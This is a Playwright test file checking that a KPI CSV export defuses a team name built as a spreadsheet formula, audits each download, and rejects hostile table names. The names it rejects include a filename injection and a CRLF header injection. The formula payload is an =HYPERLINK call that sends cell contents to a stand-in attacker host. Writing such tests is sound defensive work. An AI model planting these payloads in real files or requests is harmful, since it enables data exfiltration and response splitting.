// KPI CSV downloads: a team an administrator named like a spreadsheet formula comes out as text, every
// download is audited, nothing is cached, and only known tables are served.
import { readFile } from "node:fs/promises";
import { expect, signIn, test } from "./fixtures";

test("a team named like a formula is written as text, the download is audited and not cached", async ({ page, sql }) => {
  const name = `=HYPERLINK("http://evil.example/?x="&A1,"Click ${Date.now()}")`;
  await sql(`INSERT INTO team (tenant_id, name, kind) SELECT tenant_id, $1, 'MIXED' FROM tenant WHERE slug = 'kingsmere'`, [name]);
  await signIn(page, "head.of.service@kingsmere.example");
  const startedAt = new Date();

  // a period nobody has looked at, so the figures (and the team list) are worked out now
  const response = await page.request.get("/kpis/csv?table=teams&kpi=looked-after&period=custom&from=2019-04-01&to=2020-03-31");
  expect(response.status()).toBe(200);
  expect(response.headers()["cache-control"]).toBe("no-store");
  expect(response.headers()["content-disposition"]).toBe('attachment; filename="continuum-kpis-teams-looked-after-custom-2019-04-01-2020-03-31.csv"');
  const csv = await response.text();
  expect(csv).toContain(`"'${name.replaceAll('"', '""')}"`);
  expect(csv.split(/\r?\n/).some((line) => line.startsWith("=") || line.startsWith('"='))).toBe(false);

  // the summary through its link on the page, as a person downloads it
  await page.goto("/kpis");
  const download = page.waitForEvent("download");
  await page.locator('a[href^="/kpis/csv?table=summary&"]').click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^continuum-kpis-summary-fy-\d{4}\.csv$/);
  expect((await readFile(await file.path(), "utf8")).split("\n")[0]).toBe("kpi,title,value,numerator,denominator,england");

  const audited = await sql<{ details: { table: string; kpi: string | null; period: string; ip?: string } }>(
    `SELECT a.details FROM audit_event a JOIN app_user u ON u.tenant_id = a.tenant_id AND u.id = a.actor_id
     WHERE a.action = 'export.kpis' AND u.email = 'head.of.service@kingsmere.example' AND a.at >= $1 AND a.details->>'table' IN ('teams', 'summary') ORDER BY a.id`,
    [startedAt],
  );
  expect(audited.map((a) => [a.details.table, a.details.kpi, a.details.period])).toEqual([
    ["teams", "looked-after", "custom-2019-04-01-2020-03-31"],
    ["summary", null, expect.stringMatching(/^fy-\d{4}$/)],
  ]);
});

test("a table the service does not have is refused, and never named in a file", async ({ page }) => {
  await signIn(page, "head.of.service@kingsmere.example");
  for (const table of ["evil", 'summary"; filename="evil.bat', "summary\r\nSet-Cookie: x=y"]) {
    const response = await page.request.get(`/kpis/csv?table=${encodeURIComponent(table)}`);
    expect(response.status()).toBe(404);
    expect(response.headers()["content-disposition"]).toBeUndefined();
  }
});
